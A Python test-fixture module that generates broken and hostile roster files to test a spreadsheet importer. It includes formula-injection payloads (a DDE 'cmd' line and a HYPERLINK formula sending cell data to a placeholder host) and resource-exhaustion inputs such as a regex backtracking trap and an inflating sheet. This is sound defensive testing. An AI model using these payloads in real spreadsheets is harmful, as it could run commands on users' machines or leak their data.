"""Hostile and broken roster files, made small inside the tests: each one a trap a real
spreadsheet, a careless export or an attacker can set.

Each file says what a careful importer must do with it:

- ``refuse``: nothing can be imported; a clear message, exit status 2, the database untouched;
- ``rows``: the good rows are imported, the bad ones reported by row (exit status 0 or 1), and
  ``stored`` (if given) checks what reached the database;
- ``either``: refusing and importing are both fair (an odd but harmless file); what counts is
  a clean ending either way.
"""

from __future__ import annotations

import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from desktop.roster.id_number import check_char
from tests.hostile.tiny_xlsx import write_xlsx


def valid_id(prefix17: str) -> str:
    return prefix17 + check_char(prefix17)


ID_1 = valid_id("33010619900307123")
ID_2 = valid_id("33010619851111456")
HEADER = ["姓名", "身份证号", "联系电话", "现住地址"]
GOOD = [["王明", ID_1, "13800001111", "翠苑一区3幢501"],
        ["李娜", ID_2, "13900002222", "翠苑一区3幢502"]]


@dataclass(frozen=True)
class Hostile:
    name: str
    make: Callable[[Path], Path]
    expect: str  # "refuse" | "rows" | "either"
    stored: Callable[[list[dict]], str | None] | None = None  # None or what is wrong


def _csv(path: Path, text: str, encoding: str = "utf-8") -> Path:
    path.write_bytes(text.encode(encoding))
    return path


def _table(rows: list[list[str]]) -> str:
    return "\r\n".join(",".join(row) for row in rows) + "\r\n"


def _far_cell(ref: str) -> Callable[[Path], Path]:
    def make(path: Path) -> Path:
        cells = {"A1": "姓名", "B1": "身份证号", "A2": "王明", "B2": ID_1, ref: "x"}
        return write_xlsx(path.with_suffix(".xlsx"), cells)
    return make


def _dimension_lies(path: Path) -> Path:
    cells = {"A1": "姓名", "B1": "身份证号", "A2": "王明", "B2": ID_1}
    return write_xlsx(path.with_suffix(".xlsx"), cells, dimension="A1:XFD1048576")


def _regex_bomb(path: Path) -> Path:
    # many 多个 and 用 but never 分隔: a backtracking pattern like 多个.*用.*分隔 is cubic here
    trap = "多个" + "用" * 2000
    rows = [["说明", trap, trap]] * 6 + [HEADER] + GOOD
    return _csv(path.with_suffix(".csv"), _table(rows))


def _long_cell(path: Path) -> Path:
    cells = {"A1": "多个" + "用，" * 1_500_000, "A2": "姓名", "B2": "身份证号",
             "A3": "王明", "B3": ID_1}
    return write_xlsx(path.with_suffix(".xlsx"), cells)


def _inflating_sheet(path: Path) -> Path:
    # 1 MB of zip that inflates to ~300 MB of blank rows before the header
    cells = {"A1": "姓名", "B1": "身份证号", "A2": "王明", "B2": ID_1}
    return write_xlsx(path.with_suffix(".xlsx"), cells, padding=" " * 300_000_000)


def _mixed_encoding(path: Path) -> Path:
    head = _table([HEADER, GOOD[0]]).encode("gbk")
    tail = _table([["赵六", "", "13700003333", "翠苑一区3幢503"]]).encode("utf-8")
    path = path.with_suffix(".csv")
    path.write_bytes(head + tail)
    return path


def _no_mojibake(rows: list[dict]) -> str | None:
    names = {row["name"] for row in rows}
    bad = [name for name in names if any(ch in name for ch in "鐜嬫槑璧靛叚")]
    return f"mojibake stored: {bad}" if bad else None


def _control_chars(path: Path) -> Path:
    rows = [HEADER, ["王\x07明", ID_1, "13800001111", "翠苑一区\x013幢501"],
            ["李\u200b娜\u202e", ID_2, "13900002222", "翠苑一区3幢502"]]
    return _csv(path.with_suffix(".csv"), _table(rows))


def _no_controls(rows: list[dict]) -> str | None:
    for row in rows:
        for value in row.values():
            if isinstance(value, str) and any(
                    ord(ch) < 32 or ch in "\u200b\u200c\u200d\ufeff\u202e\u202d" for ch in value):
                return f"control character stored: {value!r}"
    return None


def _formulas(path: Path) -> Path:
    rows = [HEADER, ["=cmd|' /C calc'!A0", ID_1, "13800001111", "翠苑一区3幢501"],
            ["@SUM(1+1)*cmd", ID_2, "13900002222", '=HYPERLINK("http://x/?"&A1)']]
    return _csv(path.with_suffix(".csv"), _table(rows))


def _named(suffix: str, data: bytes) -> Callable[[Path], Path]:
    def make(path: Path) -> Path:
        path = path.with_suffix(suffix)
        path.write_bytes(data)
        return path
    return make


def _truncated_xlsx(path: Path) -> Path:
    whole = write_xlsx(path.with_suffix(".xlsx"), {"A1": "姓名", "A2": "王明"})
    data = whole.read_bytes()
    whole.write_bytes(data[: len(data) // 2])
    return whole


def _malformed_sheet(path: Path) -> Path:
    good = write_xlsx(path.with_suffix(".xlsx"), {"A1": "姓名", "A2": "王明"})
    with zipfile.ZipFile(good) as book:
        parts = {name: book.read(name) for name in book.namelist()}
    parts["xl/worksheets/sheet1.xml"] = b"<worksheet><sheetData><row><c r='A1' t='inl"
    with zipfile.ZipFile(good, "w") as book:
        for name, data in parts.items():
            book.writestr(name, data)
    return good


def _zip_not_xlsx(path: Path) -> Path:
    path = path.with_suffix(".xlsx")
    with zipfile.ZipFile(path, "w") as book:
        book.writestr("readme.txt", "这不是表格")
    return path


def _html_xls(path: Path) -> Path:
    cells = "".join(f"<tr>{''.join(f'<td>{c}</td>' for c in row)}</tr>" for row in [HEADER, *GOOD])
    return _named(".xls", f"<html><body><table>{cells}</table></body></html>".encode())(path)


def _html_nested(path: Path) -> Path:
    return _named(".xls", b"<html><table>" + b"<div>" * 200_000 + b"</table></html>")(path)


def _utf16(path: Path) -> Path:
    return _csv(path.with_suffix(".csv"), "\ufeff" + _table([HEADER, *GOOD]), "utf-16-le")


def _nul_bytes(path: Path) -> Path:
    text = _table([HEADER, *GOOD]).replace("王明", "王\x00\x00明")
    return _csv(path.with_suffix(".csv"), text)


def _wide_header(path: Path) -> Path:
    return _csv(path.with_suffix(".csv"), _table([HEADER + [f"列{n}" for n in range(20_000)],
                                                  *GOOD]))


def _one_long_line(path: Path) -> Path:
    return _csv(path.with_suffix(".csv"), "姓名" + "啊" * 2_000_000)


def _float_ids(path: Path) -> Path:
    cells = {"A1": "姓名", "B1": "身份证号", "A2": "王明", "B2": 3.30106199003071e17,
             "A3": "李娜", "B3": ID_2}
    return write_xlsx(path.with_suffix(".xlsx"), cells)


def _bad_utf8(path: Path) -> Path:
    path = path.with_suffix(".csv")
    path.write_bytes(_table([HEADER, *GOOD]).encode() + "王\U0001F600明,,,\r\n".encode()
                     + b"\xed\xa0\x80\xff\xfe,,,\r\n")
    return path


def _duplicate_headers(path: Path) -> Path:
    rows = [["姓名", "姓名", "身份证号", "身份证号"], ["王明", "李娜", ID_1, ID_2]]
    return _csv(path.with_suffix(".csv"), _table(rows))


def _formula_cells(path: Path) -> Path:
    cells = {"A1": "姓名", "B1": "身份证号", "C1": "联系电话", "A2": "王明",
             "B2": "=REPT(\"1\",18)=", "C2": "=1+1=", "A3": "李娜", "B3": ID_2}
    return write_xlsx(path.with_suffix(".xlsx"), cells)


def _many_empty_sheets(path: Path) -> Path:
    import openpyxl

    book = openpyxl.Workbook()
    for n in range(120):
        book.create_sheet(f"空{n}")
    path = path.with_suffix(".xlsx")
    book.save(path)
    return path


def _absurd_values(path: Path) -> Path:
    rows = [["姓名", "身份证号", "出生日期", "性别", "民族", "年龄"],
            ["王明", ID_1, "99999-99-99", "外星", "火星族", "1e308"],
            ["李娜", "1" * 400, "0000-00-00", "女", "回", "-5"]]
    return _csv(path.with_suffix(".csv"), _table(rows))


def _huge_name(path: Path) -> Path:
    rows = [HEADER, ["王" * 100_000, ID_1, "13800001111", "翠苑一区3幢501"], GOOD[1]]
    return _csv(path.with_suffix(".csv"), _table(rows))


HOSTILE: tuple[Hostile, ...] = (
    Hostile("cell at XFD1048576", _far_cell("XFD1048576"), "refuse"),
    Hostile("cell at CV100000", _far_cell("CV100000"), "either"),
    Hostile("cell at XFD1000", _far_cell("XFD1000"), "either"),
    Hostile("dimension claims the whole sheet", _dimension_lies, "rows"),
    Hostile("header detection regex trap", _regex_bomb, "rows"),
    Hostile("3 MB cell above the header", _long_cell, "rows"),
    Hostile("sheet inflating to 300 MB", _inflating_sheet, "either"),
    Hostile("UTF-8 row after GBK rows", _mixed_encoding, "either", _no_mojibake),
    Hostile("control characters in names", _control_chars, "rows", _no_controls),
    Hostile("formulas in names and addresses", _formulas, "rows"),
    Hostile("text file named .xlsx", _named(".xlsx", "姓名,身份证号\n王明,1\n".encode()),
            "either"),
    Hostile("random bytes named .xlsx", _named(".xlsx", bytes(range(256)) * 40), "refuse"),
    Hostile("empty .xlsx", _named(".xlsx", b""), "refuse"),
    Hostile("empty .csv", _named(".csv", b""), "refuse"),
    Hostile("truncated .xlsx", _truncated_xlsx, "refuse"),
    Hostile("malformed sheet XML", _malformed_sheet, "refuse"),
    Hostile("zip that is not a workbook", _zip_not_xlsx, "refuse"),
    Hostile("OLE2 header then garbage (.xls)",
            _named(".xls", bytes.fromhex("D0CF11E0A1B11AE1") + b"\x00" * 4000), "refuse"),
    Hostile("web page saved as .xls", _html_xls, "rows"),
    Hostile("200,000 nested tags (.xls)", _html_nested, "either"),
    Hostile("UTF-16 CSV", _utf16, "either"),
    Hostile("NUL bytes in a CSV", _nul_bytes, "either", _no_controls),
    Hostile("20,000 columns", _wide_header, "either"),
    Hostile("one 6 MB line", _one_long_line, "refuse"),
    Hostile("ID numbers mangled to floats", _float_ids, "rows"),
    Hostile("invalid UTF-8 and emoji", _bad_utf8, "either", _no_mojibake),
    Hostile("duplicated headers", _duplicate_headers, "either"),
    Hostile("formula cells in the ID and phone columns", _formula_cells, "rows"),
    Hostile("120 empty sheets", _many_empty_sheets, "refuse"),
    Hostile("absurd dates, codes and numbers", _absurd_values, "rows"),
    Hostile("a 100,000-character name", _huge_name, "either"),
)
